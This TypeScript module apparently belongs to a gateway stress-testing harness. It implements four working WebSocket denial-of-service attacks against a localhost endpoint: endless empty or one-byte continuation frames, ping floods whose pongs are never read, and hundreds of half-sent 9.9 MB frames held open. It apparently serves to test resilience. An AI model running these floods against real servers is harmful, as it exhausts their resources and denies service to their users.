/** WebSockets whose frames, messages or pongs do not end. */

import type { Socket } from "node:net";
import type { Attack } from "../attack.ts";
import { repeated } from "../payloads.ts";
import { closed, send, type Target } from "../target.ts";

const handshake = [
  "GET /api/v1/chat:stream HTTP/1.1",
  "host: localhost",
  "connection: upgrade",
  "upgrade: websocket",
  "sec-websocket-version: 13",
  "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==",
  "\r\n",
].join("\r\n");

const opcode = { continuation: 0, text: 1, ping: 9 } as const;

/** The head of a client's frame; its mask is zero. */
function frameHead(first: number, length: number): Buffer {
  if (length < 126) return Buffer.of(first, 0x80 | length, 0, 0, 0, 0);
  const head = Buffer.alloc(14);
  head.writeUInt8(first);
  head.writeUInt8(0x80 | 127, 1);
  head.writeBigUInt64BE(BigInt(length), 2);
  return head;
}

/** An open WebSocket; undefined when it is refused. What comes after the handshake is not read. */
async function upgraded(target: Target): Promise<Socket | undefined> {
  const socket = await target.connect();
  if (socket === undefined || !(await send(socket, handshake))) return undefined;
  const status = await new Promise<string | undefined>((resolve) => {
    socket.once("data", (bytes: Buffer) => resolve(bytes.toString("latin1", 9, 12)));
    socket.once("close", () => resolve(undefined));
  });
  socket.pause();
  target.saw(`${status}`);
  return status === "101" ? socket : undefined;
}

/** Sends `first` once and `again` for as long as it is taken. */
async function flood(
  target: Target,
  sockets: number,
  {
    first,
    again,
    reads,
  }: { readonly first: Buffer; readonly again: Buffer; readonly reads: boolean },
): Promise<void> {
  await target.repeat(sockets, async () => {
    const socket = await upgraded(target);
    if (socket === undefined) return;
    if (reads) socket.on("data", (bytes: Buffer) => sawClose(target, bytes)).resume();
    await send(socket, first);
    while (await send(socket, again));
  });
}

/** Counts the reason with which the gateway closes. */
function sawClose(target: Target, bytes: Buffer): void {
  if (bytes[0] === 0x88) target.saw(`close ${bytes.readUInt16BE(2)} ${bytes.toString("utf8", 4)}`);
}

/** Sends the beginning of a frame on many, and holds them. */
async function halfFrames(target: Target, sockets: number, bytes: number): Promise<void> {
  const frame = Buffer.concat([frameHead(0x80 | opcode.text, 9_900_000), Buffer.alloc(bytes, " ")]);
  await target.repeat(sockets, async () => {
    const socket = await upgraded(target);
    if (socket === undefined) return;
    await send(socket, frame);
    await closed(socket, { reads: true });
  });
}

const nothing = Buffer.alloc(0);
const begin = Buffer.concat([frameHead(opcode.text, 1), Buffer.from('"')]);
const tiny = Buffer.concat([frameHead(opcode.continuation, 1), Buffer.from("a")]);
const ping = Buffer.concat([frameHead(0x80 | opcode.ping, 125), Buffer.alloc(125)]);

/** Attacks over WebSocket. */
export const webSockets: readonly Attack[] = [
  {
    name: "empty-fragments",
    about: "WebSocket: a text that goes on with empty frames",
    run: (target) =>
      flood(target, 1, {
        first: begin,
        again: repeated(frameHead(opcode.continuation, 0), 10_000),
        reads: true,
      }),
  },
  {
    name: "tiny-fragments",
    about: "WebSocket: a text that goes on with frames of one byte",
    run: (target) => flood(target, 1, { first: begin, again: repeated(tiny, 10_000), reads: true }),
  },
  {
    name: "unread-pongs",
    about: "WebSocket: pings of 125 bytes, pongs not read",
    run: (target) => flood(target, 4, { first: nothing, again: repeated(ping, 500), reads: false }),
  },
  {
    name: "half-frames",
    about: "WebSocket: 200 times 5 MB of a frame of 9.9 MB",
    run: (target) => halfFrames(target, 200, 5_000_000),
  },
];
